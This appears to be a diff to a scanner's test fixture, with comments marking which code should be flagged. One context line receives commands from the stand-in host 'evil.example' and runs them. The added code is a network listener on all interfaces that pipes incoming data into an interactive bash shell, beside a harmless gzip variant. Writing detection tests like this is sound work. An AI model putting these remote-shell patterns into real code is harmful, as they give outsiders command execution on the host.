@@ -99,3 +99,21 @@ def namespace():
     link = socket.create_connection(("evil.example", 7))
     entry = SimpleNamespace(args=link.recv(100).decode().split())
     subprocess.run(**vars(entry))  # expect: hit
+
+
+async def served(reader, writer):
+    worker = await asyncio.create_subprocess_exec("/bin/bash", "-i", stdin=asyncio.subprocess.PIPE)  # expect: hit
+    worker.stdin.write(await reader.read(1024))
+
+
+async def served_by_gzip(reader, writer):
+    worker = await asyncio.create_subprocess_exec("/usr/bin/gzip", "-c", stdin=asyncio.subprocess.PIPE)
+    worker.stdin.write(await reader.read(1024))
+
+
+async def listening():
+    await asyncio.start_server(served, "0.0.0.0", 9099)
+
+
+async def listening_for_gzip():
+    await asyncio.start_server(served_by_gzip, "0.0.0.0", 9099)
